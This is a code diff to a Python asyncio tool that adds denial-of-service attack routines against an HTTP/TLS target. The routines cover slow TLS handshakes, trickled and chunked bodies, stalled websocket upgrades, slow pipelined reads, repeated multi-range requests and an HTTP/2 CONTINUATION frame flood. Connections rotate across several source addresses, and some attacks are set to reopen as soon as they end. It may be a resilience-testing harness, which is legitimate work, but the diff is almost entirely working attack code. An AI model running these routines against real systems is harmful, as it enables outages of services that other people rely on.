@@ -136,6 +136,63 @@ async def _slow_read(attack: Attack, number: int, answers: Counter[str]) -> None
         await asyncio.sleep(1)
 
 
+async def _slow_handshake(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """A ClientHello that comes byte by byte."""
+    source = attack.sources[number % len(attack.sources)]
+    reader, writer = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
+    writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+    await _both(_until_closed(reader, answers), _drip(writer, b"x"))
+
+
+async def _small_body(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """A body that is small enough for one buffer, and is never whole."""
+    reader, writer = await _open(attack, number)
+    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nContent-Length: 9000\r\n\r\n"
+    writer.write(head.encode())
+    await _both(_until_closed(reader, answers), _drip(writer, b"x"))
+
+
+async def _chunks(attack: Attack, number: int, answers: Counter[str]) -> None:
+    reader, writer = await _open(attack, number)
+    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nTransfer-Encoding: chunked\r\n\r\n"
+    writer.write(head.encode())
+    await _both(_until_closed(reader, answers), _drip(writer, b"1\r\nx\r\n"))
+
+
+async def _upgrade(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """What a websocket asks, and then silence."""
+    reader, writer = await _open(attack, number)
+    asked = f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+    asked += "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+    writer.write(asked.encode())
+    await _until_closed(reader, answers)
+
+
+async def _kept_alive(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """One request, and no other one."""
+    reader, writer = await _open(attack, number)
+    writer.write(f"GET /-/version HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode())
+    await _until_closed(reader, answers)
+
+
+async def _slow_pages(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """As slow reads, of pages that the app itself makes."""
+    reader, writer = await _open(attack, number)
+    writer.write(f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode() * 20)
+    while data := await reader.read(64):
+        answers.update([data[9:12].decode()] if data.startswith(b"HTTP/1.1 ") else [])
+        await asyncio.sleep(1)
+
+
+async def _ranges(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """Many ranges of one file, over and over."""
+    reader, writer = await _open(attack, number)
+    ranges = ",".join(f"{start}-{start + 1}" for start in range(0, 3000, 3))
+    asked = f"GET {attack.target.file} HTTP/1.1\r\nHost: {attack.target.name}\r\nRange: bytes={ranges}\r\n\r\n"
+    writer.write(asked.encode() * 5)
+    await _until_closed(reader, answers)
+
+
 async def _big_headers(attack: Attack, number: int, answers: Counter[str]) -> None:
     reader, writer = await _open(attack, number)
     writer.write(f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\nX-A: {'a' * 60000}\r\n\r\n".encode())
@@ -181,6 +238,21 @@ async def _h2_flood(attack: Attack, number: int, answers: Counter[str], reset: b
     await _both(_until_closed(reader, answers), send())
 
 
+async def _h2_continuations(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """A header that does not end, in small frames."""
+    reader, writer = await _open(attack, number, ["h2"])
+    writer.write(PREFACE + _frame(1, 1, 1, b"\x82\x84\x87"))
+
+    async def send() -> None:
+        for count in range(2**20):
+            writer.write(_frame(9, 0, 1, b"\x00\x01a\x01b"))
+            if count % FRAMES == 0:
+                await writer.drain()
+                await asyncio.sleep(0)
+
+    await _both(_until_closed(reader, answers), send())
+
+
 async def _h2_streams(attack: Attack, number: int, answers: Counter[str]) -> None:
     await _h2_flood(attack, number, answers, reset=False)
 
@@ -193,15 +265,30 @@ KINDS: dict[str, Callable[[Attack, int, Counter[str]], Awaitable[None]]] = {
     "no TLS handshake": _no_handshake,
     "idle TLS": _idle,
     "idle HTTP/2": _idle_h2,
+    "slow handshake": _slow_handshake,
     "slow headers": _slow_headers,
     "slow bodies": _slow_body,
+    "small slow bodies": _small_body,
+    "chunks that trickle": _chunks,
+    "upgrades": _upgrade,
+    "kept alive": _kept_alive,
     "slow reads": _slow_read,
+    "slow reads of pages": _slow_pages,
+    "ranges": _ranges,
     "big headers": _big_headers,
     "request flood": _requests,
     "HTTP/2 streams": _h2_streams,
     "HTTP/2 resets": _h2_resets,
+    "HTTP/2 continuations": _h2_continuations,
 }
-AGAIN = ("big headers", "request flood", "HTTP/2 streams", "HTTP/2 resets")  # when one ends, the next one is opened
+AGAIN = (
+    "ranges",
+    "big headers",
+    "request flood",
+    "HTTP/2 streams",
+    "HTTP/2 resets",
+    "HTTP/2 continuations",
+)  # when one ends, the next one is opened
 
 
 async def _attack(attack: Attack) -> Held:
